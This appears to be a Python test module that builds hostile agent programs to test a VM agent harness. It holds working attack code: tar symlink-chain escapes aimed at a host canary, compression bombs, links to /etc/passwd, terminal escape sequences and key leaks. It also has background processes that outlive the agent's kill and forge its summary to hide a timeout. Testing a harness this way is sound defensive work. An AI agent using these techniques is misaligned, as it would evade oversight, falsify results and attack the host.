"""The hostile agents: Python programs run in the VM by ``AGENT=custom AGENT_COMMAND='python3 -'`` (the
prompt, which is the program, arrives on stdin). Each is built from the pieces below; the agent runs as
``ubuntu`` with passwordless sudo, like a real agent.

``forge_collect(program)`` makes the agent rewrite the run's ``collect.sh`` (with sudo, owned by root) so
that, after the original has packed results.tar, ``program`` runs over the run's folder in the VM: that is
how an agent hands the host archives of its own making. ``background(program)`` leaves a process in its own
session (out of reach of agent-run.py's process-group kill) that goes on after the agent has exited.
"""

from __future__ import annotations

PRELUDE = r'''
import glob, io, json, os, subprocess, sys, tarfile, time
HOME = os.path.expanduser("~")
OUT = HOME + "/output"
WORK = glob.glob(HOME + "/.agentvm/*/")[0].rstrip("/")
os.makedirs(OUT, exist_ok=True)

def background(code):
    """A process of its own session, alive after the agent and its process group are gone (setsid)."""
    subprocess.Popen([sys.executable, "-c", "WORK = %r\n" % WORK + code], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)

def as_root_write(path, data, mode="0755"):
    subprocess.run(["sudo", "tee", path], input=data.encode(), stdout=subprocess.DEVNULL, check=True)
    subprocess.run(["sudo", "chown", "root:root", path], check=True)
    subprocess.run(["sudo", "chmod", mode, path], check=True)

def forge_collect(program):
    """collect.sh, rewritten as root: the original first, then `program` over the run folder."""
    os.rename(WORK + "/collect.sh", WORK + "/collect.orig.sh")
    as_root_write(WORK + "/forge.py", "WORK = %r\n" % WORK + FORGE_LIB + program)
    as_root_write(WORK + "/collect.sh",
                  '#!/bin/sh\nsh "$1/collect.orig.sh" "$1"\nsudo python3 "$1/forge.py"\nsudo chmod 0644 "$1/results.tar"\n')
'''

#: Helpers of the forging programs (run in the VM after the original collect.sh).
FORGE_LIB = r'''
import io, os, tarfile, zlib

def member(tar, name, data=b"", kind=tarfile.REGTYPE, link=""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o644
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)

def escape_chain(tar, target_dir):
    """The long-symlink-chain escape (CVE-2025-4517 class): nested 247-character directory names, each shadowed
    by a one-letter symlink, a long-named link at the bottom climbing back up past the top, an `escape` link
    through it to target_dir, then files written through `escape/`, through a hard link made via `escape/`,
    and through links aimed straight at the canary."""
    comp, steps, path = "d" * 247, "abcdefghijklmnop", ""
    for step in steps:
        member(tar, os.path.join(path, comp), kind=tarfile.DIRTYPE)
        member(tar, os.path.join(path, step), kind=tarfile.SYMTYPE, link=comp)
        path = os.path.join(path, comp)
    linkpath = os.path.join(*steps, "l" * 254)
    member(tar, linkpath, kind=tarfile.SYMTYPE, link="../" * len(steps))
    member(tar, "escape", kind=tarfile.SYMTYPE, link=linkpath + "/" + "../" * 64 + target_dir.lstrip("/"))
    member(tar, "flaglink", kind=tarfile.LNKTYPE, link="escape/canary.txt")
    member(tar, "flaglink", b"PWNED through a hard link made via escape/\n")
    member(tar, "escape/canary.txt", b"PWNED through the escape link\n")
    member(tar, "direct", kind=tarfile.SYMTYPE, link=target_dir + "/canary.txt")
    member(tar, "direct", b"PWNED through a symlink to the canary\n")
    member(tar, "hard", kind=tarfile.LNKTYPE, link=target_dir + "/canary.txt")
    member(tar, "hard", b"PWNED through a hard link to the canary\n")
    member(tar, "../../canary.txt", b"PWNED through ..\n")
    member(tar, target_dir + "/canary.txt", b"PWNED through an absolute name\n")

def honest_members(path):
    """(TarInfo, bytes) of what the original collect.sh packed."""
    with tarfile.open(path) as tar:
        return [(m, tar.extractfile(m).read() if m.isreg() else None) for m in tar.getmembers()]

def write_tar(path, build, fmt=tarfile.PAX_FORMAT):
    tmp = path + ".forged"
    with tarfile.open(tmp, "w", format=fmt) as tar:
        build(tar)
    os.replace(tmp, path)

def bomb(path, mib):
    """A gzip of a tar holding `mib` MiB of zeros (about 1 KiB compressed per MiB)."""
    zero = b"\0" * (1 << 20)
    with open(path, "wb") as raw:
        gz = zlib.compressobj(9, zlib.DEFLATED, 31)
        info = tarfile.TarInfo("zeros")
        info.size = mib << 20
        raw.write(gz.compress(info.tobuf(tarfile.GNU_FORMAT)))
        for _ in range(mib):
            raw.write(gz.compress(zero))
        raw.write(gz.compress(b"\0" * 1024))
        raw.write(gz.flush())
'''


def program(*parts: str) -> bytes:
    """The agent's program: the helpers, then ``parts`` (Python source, run in the VM)."""
    return "\n".join([f"FORGE_LIB = {FORGE_LIB!r}", FORGE_LIB, PRELUDE, *parts]).encode()


# -- the scenarios -----------------------------------------------------------------------------------------


def links_and_escapes(target_dir: str, key_var: str) -> bytes:
    """Links of every kind in ~/output, its credential under file and link names, terminal escape sequences
    on stdout; then collect.sh rewritten so that results.tar and output.tar carry the long-symlink-chain
    escape aimed at ``target_dir`` (the host folder of the canary), links named like the files the host
    keeps, names 1000 levels deep, a non-numeric commit count and a 10 MB agent version."""
    return program(
        f"TARGET = {target_dir!r}\nKEY = os.environ[{key_var!r}]",
        r'''
os.makedirs(HOME + "/workspace/dist", exist_ok=True)
open(HOME + "/workspace/dist/app.js", "w").write("built\n")
open(OUT + "/real.txt", "w").write("real\n")
os.symlink(HOME + "/workspace/dist", OUT + "/latest")
os.symlink("/etc/passwd", OUT + "/pw")
os.symlink(TARGET + "/canary.txt", OUT + "/to-canary")
os.link(OUT + "/real.txt", OUT + "/hard.txt")
os.symlink("/etc/hostname", os.fsencode(OUT) + b"/\xff-not-utf-8")
os.mkfifo(OUT + "/fifo")
open(OUT + "/" + KEY + ".txt", "w").write("a file named after the key\n")
os.symlink("/etc/hostname", OUT + "/link-" + KEY)
open(OUT + "/leak.txt", "w").write("the key: " + KEY + "\n")
print("\x1b]52;c;SGFja2Vk\x07\x1b[2J\x1b]0;owned\x07agent done \x9b31m red")
print("the key: " + KEY, file=sys.stderr)
forge_collect(f"TARGET = {TARGET!r}\n" + r"""
results = WORK + "/results.tar"
honest = honest_members(results)
inner = dict((m.name, data) for m, data in honest)["output.tar"]
with tarfile.open(fileobj=io.BytesIO(inner)) as tar:
    output = [(m, tar.extractfile(m).read() if m.isreg() else None) for m in tar.getmembers()]

def forged_output(tar):
    for info, data in output:
        tar.addfile(info, io.BytesIO(data) if data is not None else None)
    escape_chain(tar, TARGET)
    for i in range(20):  # 1000 levels deep, alternating between two trees: each one walked from the top
        member(tar, "/".join(["xy"[i % 2]] * 1000) + "/deep%d" % i, b"deep\n")

write_tar(WORK + "/output.forged", forged_output, tarfile.GNU_FORMAT)

def forged_results(tar):
    member(tar, "stdout.log", kind=tarfile.SYMTYPE, link=TARGET + "/canary.txt")
    member(tar, "stderr.log", kind=tarfile.LNKTYPE, link=TARGET + "/canary.txt")
    member(tar, "output.tar", kind=tarfile.SYMTYPE, link="/etc/passwd")
    escape_chain(tar, TARGET)
    for info, data in honest:
        if info.name not in ("commits", "agent_version", "output.tar"):
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    member(tar, "commits", b"many\n")
    member(tar, "agent_version", b"v" * (10 << 20))
    member(tar, "output.tar", open(WORK + "/output.forged", "rb").read())

write_tar(results, forged_results)
""")
''',
    )


def flood(mib: int) -> bytes:
    """More in ~/output than the host takes back."""
    return program(
        f"MIB = {mib}",
        r"""
chunk = os.urandom(1 << 20)
with open(OUT + "/flood.bin", "wb") as fh:
    for _ in range(MIB):
        fh.write(chunk)
print("flood done")
""",
    )


def bomb_by_background(mib: int) -> bytes:
    """A process left behind that, once the agent has exited (its summary is written), rewrites collect.sh so that a
    compression bomb takes the place of results.tar, and swaps the bomb in again whenever it sees an honest archive.
    """
    return program(
        f"bomb(WORK + '/bomb.gz', {mib})",
        r'''
background(FORGE_LIB + r"""
import shutil, time
target, deadline = WORK + "/results.tar", time.time() + 300
while not os.path.exists(WORK + "/agent-summary.json") and time.time() < deadline:
    time.sleep(0.005)
os.rename(WORK + "/collect.sh", WORK + "/collect.orig.sh")
with open(WORK + "/collect.sh", "w") as fh:
    fh.write('#!/bin/sh\nsh "$1/collect.orig.sh" "$1"\ncp "$1/bomb.gz" "$1/results.tar"\n')
while time.time() < deadline:
    try:
        with open(target, "rb") as fh:
            swapped = fh.read(2) == b"\x1f\x8b"
    except FileNotFoundError:
        swapped = True  # collect.sh has not written it yet
    if not swapped:
        shutil.copyfile(WORK + "/bomb.gz", WORK + "/.swap")
        os.chmod(WORK + "/.swap", 0o644)
        os.replace(WORK + "/.swap", target)
    time.sleep(0.005)
""")
print("agent done")
''',
    )


def forged_exit_code_and_bomb(mib: int) -> bytes:
    """collect.sh rewritten: the summary says exit code "0" (a string), output.tar is a compression bomb."""
    return program(
        f"MIB = {mib}",
        r'''
print("agent done")
forge_collect(f"MIB = {MIB}\n" + r"""
import json
results = WORK + "/results.tar"
honest = honest_members(results)
bomb(WORK + "/bomb.gz", MIB)

def forged(tar):
    member(tar, "agent-summary.json", json.dumps({"exit_code": "0", "timed_out": False, "seconds": 1}).encode())
    for info, data in honest:
        if info.name not in ("agent-summary.json", "output.tar"):
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    member(tar, "output.tar", open(WORK + "/bomb.gz", "rb").read())

write_tar(results, forged)
""")
''',
    )


def summary_rewritten_by_background(text: str) -> bytes:
    """A process left behind that replaces agent-run.py's summary with ``text`` once it is written."""
    return program(
        f"TEXT = {text!r}",
        r'''
background(f"TEXT = {TEXT!r}\n" + r"""
import os, time
path, deadline = WORK + "/agent-summary.json", time.time() + 300
while time.time() < deadline and not os.path.exists(path):
    time.sleep(0.005)
for _ in range(60):
    open(path + ".x", "w").write(TEXT)
    os.replace(path + ".x", path)
    time.sleep(0.05)
""")
print("agent done")
''',
    )


def timeout_forged_as_success() -> bytes:
    """The agent sleeps past TIMEOUT; a process left behind rewrites the summary to a clean exit after the
    guard killed the agent."""
    success = '{"exit_code": 0, "timed_out": false, "seconds": 1.0}'
    return program(
        f"TEXT = {success!r}",
        r'''
background(f"TEXT = {TEXT!r}\n" + r"""
import os, time
path, deadline = WORK + "/agent-summary.json", time.time() + 600
while time.time() < deadline and not os.path.exists(path):
    time.sleep(0.005)
for _ in range(60):
    open(path + ".x", "w").write(TEXT)
    os.replace(path + ".x", path)
    time.sleep(0.05)
""")
print("working on it", flush=True)
time.sleep(600)
''',
    )


def garbage_results(mib: int) -> bytes:
    """collect.sh rewritten: results.tar is ``mib`` MiB of random bytes (a regular file: a link to a device
    or a FIFO makes Ansible's fetch fall back to slurp, which reads it whole in the VM; not run here)."""
    return program(
        f"MIB = {mib}",
        r'''
print("agent done")
forge_collect(f"MIB = {MIB}\n" + r"""
with open(WORK + "/results.tar", "wb") as fh:
    for _ in range(MIB):
        fh.write(os.urandom(1 << 20))
""")
''',
    )
